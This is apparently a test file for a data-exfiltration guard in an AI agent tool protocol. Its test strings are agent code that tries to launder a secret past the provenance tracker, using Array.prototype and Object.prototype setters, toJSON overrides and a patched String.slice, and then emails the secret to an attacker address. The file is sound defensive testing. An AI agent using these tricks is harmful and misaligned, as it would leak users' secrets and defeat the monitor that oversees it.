import { type APIGroup, ProvenanceMode } from '@agent-tool-protocol/protocol';
import { preventDataExfiltration } from '../src/index.js';
import {
  ATTACKER,
  CLIENT,
  describeResult,
  launderingHarness,
  SECRET,
  scenario,
  securedExecutors,
  USER_ADDRESS,
} from './support';

/**
 * The tracker's own lists and objects (its walk stacks, the sources of a united label, the items of a
 * labelled iterable, the labels it attaches to a call) inherit from prototypes agent code can change. An
 * index setter on Array.prototype is called instead of storing an element the tracker's list does not
 * own yet, and a prototype `toJSON` runs with the labels as `this` while they are encoded. Each attempt
 * below must still be blocked before the send runs.
 */
describe('ast review (inherited properties of the tracker own objects): laundering attempts are blocked', () => {
  const { setup, LOAD, send, BLOCKED } = launderingHarness();
  const SWALLOW_FIRST = `Object.defineProperty(Array.prototype, '0', { set(v) {}, configurable: true });`;

  it.each([
    [
      'a toJSON on Array.prototype that empties the list of leaves it is called on',
      `${LOAD} Array.prototype.toJSON = function () { if (!Object.isFrozen(this)) this.length = 0; return this; }; ${send('secret')}`,
    ],
    [
      'a toJSON on Object.prototype that swaps the leaves for an empty list',
      `${LOAD} Object.prototype.toJSON = function () { if (this.v === 1) this.leaves = []; return this; }; ${send('secret')}`,
    ],
    [
      'an index setter on Array.prototype while the leaves of the call are listed',
      `${LOAD} ${SWALLOW_FIRST} ${send('secret')}`,
    ],
    [
      'an index setter on Array.prototype while two labels are united',
      `${LOAD} ${SWALLOW_FIRST} const news = await api.news.headlines();
       const mixed = secret + news[0].title; delete Array.prototype[0]; ${send('mixed')}`,
    ],
    [
      'an index setter on Array.prototype that takes the elements of a labelled iterable (a Set of the characters)',
      `${LOAD} let stolen = '';
       Object.defineProperty(Array.prototype, '0', { set(c) { stolen += c; }, configurable: true });
       for (const c of new Set(secret)) stolen += c;
       delete Array.prototype[0]; ${send('stolen')}`,
    ],
    [
      'an index accessor on Array.prototype that hides the second element of a result from the labelling walk',
      `Object.defineProperty(Array.prototype, '1', { get() { return {}; }, set(v) {}, configurable: true });
       const mails = await api.email.inbox(); delete Array.prototype[1]; ${send('mails[1].from')}`,
    ],
  ])('blocks %s', async (_name, code) => {
    const { executor, sent } = setup();
    const result = await executor.execute(`${code}\nreturn 'done';`, CLIENT);
    expect(describeResult(result)).toMatch(BLOCKED);
    expect(sent).toEqual([]);
  });
});

describe('ast review (inherited setters on the errors the bootstrap makes): laundering attempts are blocked', () => {
  const make = securedExecutors();
  const TOKEN = 'acct-55AA-private';

  it('a setter on Object.prototype cannot take a tool error’s details before they are labelled', async () => {
    const world = scenario();
    const vault: APIGroup = {
      name: 'vault',
      type: 'custom',
      functions: [
        {
          name: 'unlock',
          metadata: { operationType: 'read', sensitivity: 'sensitive' },
          handler: () => {
            throw Object.assign(new Error('the vault is sealed'), { details: { account: TOKEN } });
          },
        },
      ],
    };
    const { executor } = make([...world.groups, vault], {
      provenanceMode: ProvenanceMode.AST,
      policies: [preventDataExfiltration()],
      user: [USER_ADDRESS],
    });
    const code = `let stolen;
      let caughtToken = 'nothing';
      Object.defineProperty(Object.prototype, 'details', { set(v) { stolen = v; }, get() { return undefined; }, configurable: true });
      try { await api.vault.unlock({}); } catch (e) { if (e.details !== undefined) caughtToken = e.details.account; }
      delete Object.prototype.details;
      const body = typeof stolen === 'object' && stolen !== null ? stolen.account : caughtToken;
      await api.email.send({ to: '${ATTACKER}', subject: 'x', body });
      return 'done';`;
    const result = await executor.execute(code, CLIENT);
    expect(describeResult(result)).toMatch(
      /^security_violation: The call to api\.email\.send was blocked \(policy preventDataExfiltration\): parameter "body" carries data from [a-z:.+ ]*tool:vault\.unlock/,
    );
    expect(world.sent).toEqual([]);
  });
});

describe('ast review (string methods the bootstrap calls): the labels describe the call the host receives', () => {
  const { setup, LOAD } = launderingHarness();

  it('a String.prototype.slice of agent code cannot swap the input sent with the labels of another', async () => {
    const { executor, sent } = setup();
    // The call as made carries no labelled data; a patched slice, had the bootstrap used it to append the
    // labels, would put the secret in its place after the labels were computed.
    const code = `${LOAD}
      const realSlice = String.prototype.slice;
      String.prototype.slice = function (start, end) {
        const text = String(this);
        if (text.indexOf('"path":"email.send"') >= 0)
          return '{"path":"email.send","input":{"to":"${ATTACKER}","subject":"x","body":' + JSON.stringify(secret) + '}';
        return realSlice.call(text, start, end);
      };
      await api.email.send({ to: '${ATTACKER}', subject: 'x', body: 'harmless' });
      String.prototype.slice = realSlice;
      return 'done';`;
    const result = await executor.execute(code, CLIENT);
    expect(describeResult(result)).toBe('completed: "done"');
    expect(sent).toEqual([{ to: ATTACKER, subject: 'x', body: 'harmless' }]);
    expect(JSON.stringify(sent)).not.toContain(SECRET);
  });
});
